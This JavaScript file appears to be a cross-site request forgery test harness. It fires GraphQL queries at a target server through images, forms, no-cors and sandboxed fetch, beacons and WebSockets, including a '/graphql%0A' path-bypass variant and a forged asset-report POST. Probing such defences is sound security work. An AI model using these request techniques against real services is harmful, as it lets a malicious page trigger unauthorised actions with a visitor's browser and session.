// Every way a page can make a browser send something elsewhere. Each is over before
// `attack` returns, so what it did can be looked for then.
const ways = {
  image: (url) => loaded('img', (it) => { it.src = url; }),
  script: (url) => loaded('script', (it) => { it.src = url; }),
  style: (url) => loaded('link', (it) => { it.rel = 'stylesheet'; it.href = url; }),
  frame: (url) => loaded('iframe', (it) => { it.src = url; }),
  'form get': (url, body) => form(url, body, 'GET', ''),
  'form urlencoded': (url, body) => form(url, body, 'POST', ''),
  'form multipart': (url, body) => form(url, body, 'POST', 'multipart/form-data'),
  'form text': (url, body) => form(url, body, 'POST', 'text/plain'),
  'fetch get': (url) => asked(url, {}),
  'fetch get no-cors': (url) => asked(url, {mode: 'no-cors'}),
  'fetch get without referrer': (url) =>
    asked(url, {mode: 'no-cors', referrerPolicy: 'no-referrer'}),
  'fetch post no-cors': (url, body) => asked(url, {method: 'POST', mode: 'no-cors', body}),
  'fetch post blob': (url, body) => asked(url, {
    method: 'POST', mode: 'no-cors', body: new Blob([body], {type: 'application/json'}),
  }),
  'fetch post nothing': (url) => asked(url, {method: 'POST', mode: 'no-cors'}),
  'fetch post json': (url, body) => asked(url, {
    method: 'POST', body, headers: {'Content-Type': 'application/json'},
  }),
  'fetch from a frame without origin': (url, body) => sandboxed(url, body),
  beacon: (url, body) => beacon(url, body),
  'beacon json': (url, body) => beacon(url, new Blob([body], {type: 'application/json'})),
};

async function attack(origin, target, query, asset) {
  const learned = {};
  for (const [way, send] of Object.entries(ways)) {
    const marked = query.replace('MARK', `${way} of ${origin}`);
    const body = JSON.stringify({query: marked});
    for (const path of ['/graphql', '/graphql%0A']) {
      const url = `${target}${path}?query=${encodeURIComponent(marked)}`;
      learned[`${way} ${path}`] = await send(url, body);
    }
  }
  learned.report = await asked(
    `${target}/report_asset_materialization/${asset}`, {method: 'POST', mode: 'no-cors'});
  learned.socket = await socket(`${target.replace('http', 'ws')}/graphql`);
  return learned;
}

function leave(origin, target, query) {
  const marked = query.replace('MARK', `form of the window of ${origin}`);
  const it = document.createElement('form');
  it.method = 'POST';
  it.action = `${target}/graphql?query=${encodeURIComponent(marked)}`;
  document.body.append(it);
  it.submit();
}

function loaded(kind, set) {
  return new Promise((tell) => {
    const it = document.createElement(kind);
    it.onload = () => tell('loaded');
    it.onerror = () => tell('error');
    set(it);
    document.body.append(it);
  });
}

async function asked(url, options) {
  try {
    const answer = await fetch(url, options);
    return `${answer.type} ${answer.status}`;
  } catch (error) {
    return error.name;
  }
}

function form(url, body, method, enctype) {
  const frame = document.createElement('iframe');
  frame.name = `frame-${Math.random()}`;
  document.body.append(frame); // its empty document is loaded at once
  const it = document.createElement('form');
  Object.assign(it, {method, action: url, target: frame.name});
  if (enctype) it.enctype = enctype;
  for (const part of [...new URL(url).searchParams, [body, '']]) {
    const field = document.createElement('input');
    [field.name, field.value] = part;
    it.append(field);
  }
  document.body.append(it);
  return new Promise((tell) => {
    frame.onload = () => tell('loaded');
    it.submit();
  });
}

function sandboxed(url, body) {
  return new Promise((tell) => {
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts';
    const sent = `fetch(${JSON.stringify(url)}, {method: 'POST', mode: 'no-cors',
      body: ${JSON.stringify(body)}}).then(() => 'sent', () => 'error')
      .then((it) => parent.postMessage(it, '*'))`;
    frame.srcdoc = `<script>${sent.replaceAll('</', '<\\/')}</script>`;
    addEventListener('message', (event) => tell(event.data), {once: true});
    document.body.append(frame);
  });
}

async function beacon(url, body) {
  const queued = navigator.sendBeacon(url, body);
  await asked(url.replace(/graphql.*/, 'favicon.ico'), {mode: 'no-cors'});
  return String(queued);
}

function socket(url) {
  return new Promise((tell) => {
    const it = new WebSocket(url, 'graphql-ws');
    it.onopen = () => tell('open');
    it.onerror = () => tell('error');
  });
}
